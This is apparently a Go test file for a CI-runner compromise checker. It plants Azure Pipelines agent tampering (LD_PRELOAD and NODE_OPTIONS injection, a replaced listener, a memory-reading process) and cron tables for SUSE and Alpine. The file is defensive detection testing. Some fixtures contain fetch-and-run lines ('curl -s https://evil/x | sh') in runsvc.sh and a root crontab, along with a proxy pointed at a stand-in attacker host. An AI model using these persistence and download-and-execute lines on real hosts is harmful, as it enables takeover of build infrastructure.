package check_test

import "cordon/internal/check"

func init() { runnerRows = append(runnerRows, azureRows...) }

const (
	azHome = "/opt/azagent"
	azUnit = "vsts.agent.acme.Default.az-1.service"
)

// az plants an Azure Pipelines agent as its installer leaves it, and then what is wrong.
func az(wrong func(*tree)) func(*tree) {
	return func(tr *tree) {
		tr.file(azHome+"/.agent", `{"agentId": "9", "agentName": "az-1", "poolId": "1", "serverUrl": "https://dev.azure.com/acme/", "workFolder": "_work"}`, 0o600)
		wrong(tr)
	}
}

func azEnv(line string) func(*tree) {
	return az(func(tr *tree) { tr.more(azHome+"/.env", line+"\n") })
}

// azureRows are facts/host.md §1.6: a sibling of GitHub's runner, with files and
// variables of its own.
var azureRows = []row{
	{"1.6 trace with secrets", "job-hooks", check.Medium, azHome + "/.env|VSTS_AGENT_HTTPTRACE", false, azEnv("VSTS_AGENT_HTTPTRACE=true")},
	{"1.6 env-loader LD_PRELOAD", "job-hooks", check.High, azHome + "/.env|LD_PRELOAD", false, azEnv("LD_PRELOAD=/opt/x.so")},
	{"1.6 env-loader NODE_OPTIONS", "job-hooks", check.High, azHome + "/.env|NODE_OPTIONS", false, azEnv("NODE_OPTIONS=--require /opt/x.js")},
	{"1.6 tool cache elsewhere", "runner-files", check.High, azHome + "/.env|AGENT_TOOLSDIRECTORY", false, azEnv("AGENT_TOOLSDIRECTORY=/dev/shm/tools")},
	{"1.6 proxy", "runner-files", check.Medium, azHome + "/.env|https_proxy", false, azEnv("https_proxy=http://" + evil + ":3128")},
	{"1.6 path-hijack open directory", "job-hooks", check.Medium, azHome + "/.path", false, az(plainFile(azHome+"/.path", "/tmp/bin:/usr/bin\n"))},
	{"1.6 runsvc.sh", "job-hooks", check.High, azHome + "/runsvc.sh", false, az(program(azHome+"/runsvc.sh", "curl -s https://"+evil+"/x | sh\n"))},
	{"1.6 script in place of the listener", "runner-files", check.High, azHome + "/bin/Agent.Listener", false, az(func(tr *tree) {
		tr.file(azHome+"/bin/Agent.Listener", "#!/bin/sh\n/bin/true\n", 0o755)
		tr.file(azHome+"/bin/Agent.Worker", "\x7fELF", 0o755)
	})},
	{"1.6 root that anybody writes", "runner-files", check.High, azHome + "/.$", false, az(func(tr *tree) { tr.dir(azHome, 0o777) })},
	{"1.6 runner-unit LD_PRELOAD", "unit-dropins", check.High, azUnit + ".d/21-az.conf", false, az(plainFile("/etc/systemd/system/"+azUnit+".d/21-az.conf", "[Service]\nEnvironment=LD_PRELOAD=/opt/x.so\n"))},
	{"1.6 hidden second agent", "installations", check.Medium, "/srv/.az", false, plainFile("/srv/.az/.agent", `{"agentId": "10", "agentName": "az-2", "serverUrl": "https://dev.azure.com/x/", "workFolder": "_work"}`)},
	{"1.6 listener that is gone from the disk", "installations", check.High, azHome + "-old/bin/Agent.Listener", false, func(tr *tree) {
		tr.process(2021, 1, jobUser, "Agent.Listener", azHome+"-old/bin/Agent.Listener (deleted)", "/x", nil, "Agent.Listener", "run")
	}},
	{"1.6 reader of the worker's memory", "worker-memory", check.Critical, "process 2023", false, func(tr *tree) {
		tr.process(2022, 1, jobUser, "Agent.Worker", azHome+"/bin/Agent.Worker", "/system.slice/"+azUnit, nil, azHome+"/bin/Agent.Worker", "spawnclient", "1", "2")
		tr.process(2023, 2022, jobUser, "python3", "/usr/bin/python3", "/system.slice/"+azUnit, nil, "python3", "m.py")
		tr.link("/proc/2022/mem", "/proc/2023/fd/4")
	}},
	{"1.6 orphan of a job", "orphans", check.High, "process 2024", false, func(tr *tree) {
		tr.process(2024, 1, jobUser, "sh", "/usr/bin/dash", "/x", []string{"VSTS_PROCESS_LOOKUP_ID=vsts_00000000-0000-0000-0000-000000000000", "AGENT_JOBNAME=x"}, "sh", "x.sh")
	}},

	// Cron of SUSE and of Alpine, whose tables lie elsewhere than Debian's and Red Hat's.
	{"cron SUSE's table of an account", "cron-timers", check.High, "/var/spool/cron/tabs/runner", false, plainFile("/var/spool/cron/tabs/runner", "* * * * * /bin/true\n")},
	{"cron SUSE's table of root", "cron-timers", check.High, "/var/spool/cron/tabs/root", false, plainFile("/var/spool/cron/tabs/root", "* * * * * /tmp/x\n")},
	{"cron Alpine's table of an account", "cron-timers", check.High, "/etc/crontabs/ir", false, plainFile("/etc/crontabs/ir", "* * * * * /tmp/y\n")},
	{"cron Alpine's table of root", "cron-timers", check.High, "/etc/crontabs/root", false, plainFile("/etc/crontabs/root", "*/15 * * * * run-parts /etc/periodic/15min\n* * * * * curl -s http://"+evil+"/x | sh\n")},
	{"cron Alpine's directories", "cron-timers", check.High, "/etc/periodic/15min/sync", false, program("/etc/periodic/15min/sync", shellOut)},
}
